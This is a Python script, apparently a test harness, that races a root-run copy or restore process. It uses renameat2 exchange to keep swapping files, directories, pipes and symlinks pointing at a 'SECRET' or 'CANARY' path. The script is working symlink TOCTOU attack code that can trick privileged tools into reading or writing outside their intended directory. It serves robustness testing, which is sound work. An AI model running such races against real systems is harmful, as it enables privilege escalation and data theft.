#!/usr/bin/env python3
"""Swaps names as fast as it can, as a user who wants root to read or write elsewhere. Runs until its standard input ends,
then prints how often it swapped.

usage: racer.py source DIR SECRET     in DIR: directories, files, pipes and links to SECRET take each other's places
       racer.py target DIR CANARY     in DIR: whatever a restore makes takes turns with a link to CANARY
       racer.py place DIR CANARY      in DIR, which is restored in place: its directories and files take turns with links
"""
import ctypes
import os
import select
import sys

AT_FDCWD, EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    return libc.renameat2(AT_FDCWD, os.fsencode(a), AT_FDCWD, os.fsencode(b), EXCHANGE) == 0


def ended():
    return bool(select.select([sys.stdin], [], [], 0)[0])


def source(secret):
    os.makedirs("dir/sub", exist_ok=True)
    for name in ("dir/known", "dir/sub/known", "file"):
        with open(name, "w") as out:
            out.write("public\n" * 100)
    for name, target in (("dir-link", secret), ("dir/sub-link", "../" + secret), ("file-link", secret + "/secret"), ("up-link", "..")):
        os.symlink(target, name)
    os.mkfifo("pipe")
    pairs = (("dir", "dir-link"), ("dir/sub", "dir/sub-link"), ("file", "file-link"), ("file", "pipe"), ("dir", "up-link"))
    swaps = 0
    while not ended():
        for _ in range(100):
            for a, b in pairs:
                swaps += exchange(a, b)
    return swaps


def target(canary):
    swaps = 0
    while not ended():
        for _ in range(20):
            for name in os.listdir("."):
                if not name.startswith((".out", "out")):
                    continue
                try:
                    os.symlink(canary, "lure")
                except FileExistsError:
                    pass
                # There and back, and into it where that can be.
                swaps += exchange(name, "lure")
                swaps += exchange(name, "lure")
                for inner in ("a", "a/b", "file"):
                    swaps += exchange(os.path.join(name, inner), "lure")
    return swaps


def place(canary):
    os.symlink(canary, "lure")
    os.symlink("../" + canary, "lure2")
    os.symlink(canary + "/file", "lure3")
    pairs = (("a", "lure"), ("a/b", "lure2"), ("file", "lure3"), ("a/b/c", "lure"), ("a", "file"))
    swaps = 0
    while not ended():
        for _ in range(50):
            for name, lure in pairs:
                swaps += exchange(name, lure)
                swaps += exchange(name, lure)
    return swaps


if __name__ == "__main__":
    os.chdir(sys.argv[2])
    print({"source": source, "target": target, "place": place}[sys.argv[1]](sys.argv[3]))
